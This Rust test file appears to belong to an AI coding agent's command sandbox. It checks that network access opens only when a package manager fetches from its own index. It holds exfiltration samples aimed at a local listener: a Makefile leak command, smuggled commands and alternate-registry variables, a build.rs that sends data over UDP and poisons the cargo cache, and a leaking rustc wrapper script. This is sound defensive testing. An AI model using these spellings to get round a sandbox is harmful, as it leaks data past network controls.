//! Rule: the network is opened to a command only from the policy's parse of it, only for a
//! package manager's fetch from its own index, and to nothing else on the line. Each case tries
//! to reach a listener on 127.0.0.1 through a spelling that once opened it (a comment, a fetch
//! beside other code, an option or variable naming another index), approved by `--yes` where
//! it asks: nothing may arrive.

use std::net::TcpListener;
use std::time::Duration;

use serde_json::json;

use crate::harness::Ai;
use crate::launcher::require_sandbox;
use crate::sandbox::{ai_in, run_call, with_toolchains};
use crate::server::{FakeServer, text_reply, tool_reply};

/// A listener that says whether anyone connected.
struct Listener(TcpListener);

impl Listener {
    fn start() -> Listener {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Listener(listener)
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.0.local_addr().unwrap().port())
    }

    fn reached(&self) -> bool {
        std::thread::sleep(Duration::from_millis(50));
        self.0.accept().is_ok()
    }
}

/// A UDP socket on 127.0.0.1 that waits a moment for anything sent to it, and its port.
pub fn udp_listener() -> (std::net::UdpSocket, u16) {
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    listener
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let port = listener.local_addr().unwrap().port();
    (listener, port)
}

fn run(command: &str, listener: &Listener) -> (Ai, crate::harness::Run) {
    let connect = format!(
        "python3 -c \"import urllib.request as u; u.urlopen('{}/leak', timeout=2)\"",
        listener.url()
    );
    let server = FakeServer::start(vec![
        tool_reply(&[("c1", "execute_command", json!({ "command": command }))]),
        text_reply("done"),
    ]);
    let ai = Ai::new(&server.url)
        .file("Makefile", &format!("all:\n\t-@{connect}\n"))
        .file(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .file("src/lib.rs", "")
        // A fetch with no network would retry for long: what matters is that nothing arrives.
        .env("SWEBASH_AI_EXEC_TIMEOUT", "5")
        .args(&["--json", "--yes", "go"]);
    let run = ai.run();
    (ai, run)
}

#[test]
fn only_a_fetch_from_the_managers_own_index_opens_the_network() {
    if !require_sandbox() {
        return;
    }
    let listener = Listener::start();
    let url = listener.url();
    for command in [
        "make # | cargo build".to_string(),
        "make; cargo build --offline".to_string(),
        "cargo fetch --offline; make".to_string(),
        "make && npm install".to_string(),
        "cargo search --index sparse+{url}/index/ secret".replace("{url}", &url),
        "cargo search --registry evil secret".to_string(),
        "npm install --registry={url}".replace("{url}", &url),
        "npm view --registry {url} x".replace("{url}", &url),
        "pip install --index-url {url}/simple x".replace("{url}", &url),
        "pip install {url}/x.whl".replace("{url}", &url),
        "GOPROXY={url} go mod download".replace("{url}", &url),
        "npm_config_registry={url} npm install".replace("{url}", &url),
        "HTTPS_PROXY={url} cargo fetch".replace("{url}", &url),
    ] {
        let (_ai, run) = run(&command, &listener);
        assert!(
            !listener.reached(),
            "{command}: reached the listener\n{}",
            run.stdout
        );
    }
}

#[test]
fn check_command_says_which_fetch_gets_the_network() {
    let ai = Ai::new("http://127.0.0.1:9/v1");
    let said = |command: &str| ai.run_with(&["--check-command", command, "--json"]).json();
    let open = said("cargo build");
    let sandbox = open["sandbox"].to_string();
    if require_sandbox() {
        assert!(sandbox.contains("network open"), "{open}");
    }
    for command in [
        "cargo build --offline",
        "make # | cargo build",
        "cargo build; make",
        "npm ci && npm run build",
    ] {
        let told = said(command);
        assert!(
            !told["sandbox"].to_string().contains("network open"),
            "{command}: {told}"
        );
    }
    let elsewhere = said("cargo search --index sparse+http://127.0.0.1:9/ x");
    assert_eq!(elsewhere["decision"], json!("ask"), "{elsewhere}");
}

#[test]
fn a_build_script_runs_after_the_fetch_with_no_network_and_no_cache_to_write() {
    if !require_sandbox() {
        return;
    }
    let (listener, port) = udp_listener();
    let ai = with_toolchains(ai_in(false));
    let registry = ai.home().join(".cargo/registry");
    std::fs::create_dir_all(&registry).unwrap();
    let build = format!(
        "fn main() {{\n\
         let sent = std::net::UdpSocket::bind(\"127.0.0.1:0\").and_then(|s| s.send_to(b\"LEAK\", \"127.0.0.1:{port}\"));\n\
         let wrote = std::fs::write(\"{}/poison\", \"x\");\n\
         println!(\"cargo:warning=sent={{}} wrote={{}}\", sent.is_ok(), wrote.is_ok());\n\
         }}\n",
        registry.display()
    );
    let ai = ai
        .file(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .file("build.rs", &build)
        .file("src/lib.rs", "");
    let (ai, run, server) = run_call(ai, "cargo build");
    assert_eq!(run.code, 0, "{}", run.stderr);
    let told = server.last_tool_result();
    assert_eq!(told["data"]["exit_code"], json!(0), "{told}");
    assert!(
        told.to_string().contains("sent=false wrote=false"),
        "{told}"
    );
    let mut buf = [0u8; 8];
    assert!(
        listener.recv(&mut buf).is_err(),
        "the build script reached the listener"
    );
    assert!(!ai.home().join(".cargo/registry/poison").exists());
}

#[test]
fn project_configuration_that_names_a_program_gives_the_fetch_no_network() {
    if !require_sandbox() {
        return;
    }
    let (listener, port) = udp_listener();
    let wrapper = format!(
        "#!/bin/sh\npython3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'LEAK', ('127.0.0.1', {port}))\" 2>/dev/null\nexec \"$@\"\n"
    );
    let ai = with_toolchains(ai_in(false))
        .file(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .file("src/lib.rs", "")
        .file(
            ".cargo/config.toml",
            "[build]\nrustc-wrapper = \"tools/w.sh\"\n",
        )
        .file("tools/w.sh", &wrapper);
    let script = ai.work().join("tools/w.sh");
    let mut mode = std::fs::metadata(&script).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut mode, 0o755);
    std::fs::set_permissions(&script, mode).unwrap();
    let (_ai, run, _server) = run_call(ai, "cargo build");
    let mut buf = [0u8; 8];
    assert!(
        listener.recv(&mut buf).is_err(),
        "the project's rustc wrapper reached the listener: {}",
        run.stderr
    );
}
